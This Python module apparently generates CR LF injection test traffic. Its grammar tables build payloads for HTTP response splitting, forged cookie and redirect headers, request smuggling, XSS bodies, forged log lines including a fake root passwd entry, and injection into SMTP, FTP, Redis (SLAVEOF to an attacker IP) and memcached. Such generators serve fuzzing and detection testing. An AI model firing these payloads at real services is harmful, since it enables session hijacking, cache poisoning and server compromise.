"""CR LF injection: response splitting (RFC 9112), forged headers, cookies and log lines.

Mail headers have their own family."""

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "nl": (
        "%0d%0a", "%0d%0a", "%0D%0A", "\r\n", "\r\n", "%0a", "%0d", "\n", "%0A",
        "%E5%98%8D%E5%98%8A", "\\r\\n", "%u000d%u000a", "%250d%250a", "%%0d0a", "%0d%20%0a",
        "%23%0d%0a", "%3f%0d%0a", "%00%0d%0a", "%c4%8d%c4%8a", "嘍嘊", "%0d%0d%0a", "%0a%20",
        "%25%30d%25%30a", "%5cr%5cn", "%20%0d%0a", "%0d%09", "%e5%98%8a%e5%98%8d",
    ),
    "s": (":", ": ", ":%20", "%3a%20", "%3A"),
    "h": (
        "Set-Cookie‹s›‹id›=‹rnd›", "Set-Cookie‹s›‹id›=‹rnd›;‹ domain=.‹evil›¦ path=/¦HttpOnly›",
        "Set-Cookie‹s›crlf=‹rnd›", "Location‹s›‹url›", "X-‹id›‹s›‹rnd›", "X-XSS-Protection‹s›0",
        "Content-Type‹s›text/html", "Content-Length‹s›0", "Refresh‹s›0;url=‹url›",
        "Access-Control-Allow-Origin‹s›‹*¦‹url››", "Host‹s›‹evil›", "X-Forwarded-For‹s›‹ip›",
        "Link‹s›<‹url›>;rel=stylesheet", "Transfer-Encoding‹s›chunked", "Last-Modified‹s›‹rnd›",
        "Content-Disposition‹s›attachment;filename=‹id›.bat", "Cookie‹s›‹id›=‹rnd›",
        "Content-Security-Policy‹s›default-src *", "Header-Test‹s›‹rnd›", "X-Injected‹s›‹n›",
        "Status‹s›200", "Connection‹s›keep-alive", "User-Agent‹s›‹rnd›",
    ),
    "b": (
        "<script>alert(‹n›)</script>", "<html>‹words›</html>", "<h1>‹rnd›</h1>",
        "<svg onload=alert(‹n›)>", "%3Cscript%3Ealert(‹n›)%3C/script%3E",
    ),
    "m": ("GET", "POST", "PUT", "DELETE", "HEAD"),
}
_GRAMMAR = Grammar(_SYMBOLS, finish=after_value(0.45))

RULES = _GRAMMAR.rules(
    one_header=("‹nl›‹h›", "‹nl›‹h›", "‹nl›‹h›‹nl›", "/‹nl›‹h›", "?‹nl›‹h›", "‹nl›%20‹h›"),
    many_headers=(
        "‹nl#1›‹h›‹nl#1›‹h›", "‹nl#1›‹h›‹nl#1›‹h›‹nl#1›‹h›",
        "‹nl#1›‹h›‹nl#1›‹h›‹nl#1›‹nl#1›‹words›",
    ),
    splitting=(
        "‹nl#1›Content-Length:%200‹nl#1›‹nl#1›HTTP/1.1%20200%20OK‹nl#1›‹h›‹nl#1›‹nl#1›‹b›",
        "‹nl#1›‹nl#1›‹b›", "‹nl#1›HTTP/1.1 ‹200 OK¦302 Found›‹nl#1›‹h›‹nl#1›‹nl#1›‹b›",
        "‹nl#1›‹h›‹nl#1›‹nl#1›‹b›", "‹nl#1›‹h›‹nl#1›Content-Length:%20‹n›‹nl#1›‹nl#1›‹b›",
    ),
    smuggling=(
        "0‹nl#1›‹nl#1›‹m› /‹id› HTTP/1.1‹nl#1›‹h›",
        " HTTP/1.1‹nl#1›‹h›‹nl#1›‹nl#1›‹m› /‹id› HTTP/1.1‹nl#1›Host: ‹lan›",
        "%20HTTP/1.1‹nl#1›Host:%20‹evil›‹nl#1›‹nl#1›‹m›%20/‹id›",
        "‹nl#1›Transfer-Encoding: ‹chunked¦xchunked¦identity, chunked›‹nl#1›‹nl#1›0‹nl#1›‹nl#1›‹m›"
        " /‹id› HTTP/1.‹1¦0›",
        "‹nl#1›‹m› http://‹lan›/‹id› HTTP/1.1‹nl#1›‹h›",
    ),
    in_path=(
        "/‹id›‹nl›‹h›", "/%0d%0a‹h›", "//‹evil›/‹nl›‹h›", "/‹word›/%20HTTP/1.1‹nl›‹h›",
        "http://‹word›.com/‹id›‹nl›‹h›", "/‹id›?‹abc›=‹nl›‹h›", "/‹word›/%2e%2e‹nl›‹h›",
    ),
    log_line=(
        '‹nl›‹ip› - - [‹n8›/Jan/20‹d›‹d›] "GET /‹id› HTTP/1.1" 200 ‹n›',
        "‹nl›INFO: User ‹name› logged in‹nl›‹abc?›",
        "‹nl›‹20‹d›‹d›-01-01¦[ERROR]¦WARN› ‹words›‹nl›<script>‹rnd›", "‹nl›%1b[31m‹words›%1b[0m",
        "‹nl›root:x:0:0:‹rnd›:/root:/bin/bash",
    ),
    other_protocols=(
        "‹nl#1›QUIT‹nl#1›HELO ‹evil›", "‹nl#1›PORT ‹n8›,‹n8›,‹n8›,‹n8›,‹n8›,‹n8›‹nl#1›RETR ‹id›",
        "‹nl#1›SLAVEOF ‹ip› ‹port›‹nl#1›", "‹nl#1›set ‹id› 0 ‹n› ‹d›‹nl#1›‹rnd›‹nl#1›",
        "‹nl#1›stats‹nl#1›quit‹nl#1›‹abc›",
        "‹nl#1›RCPT TO:<‹name›@‹evil›>‹nl#1›DATA‹nl#1›‹words›‹nl#1›.‹nl#1›",
    ),
    with_markup=(
        "‹nl›‹b›", "‹nl›‹h›‹nl›‹b›", "‹nl›Content-Type: text/html‹nl›‹nl›‹b›",
        "‹nl›X-XSS-Protection:0‹nl›‹nl›‹b›",
    ),
)
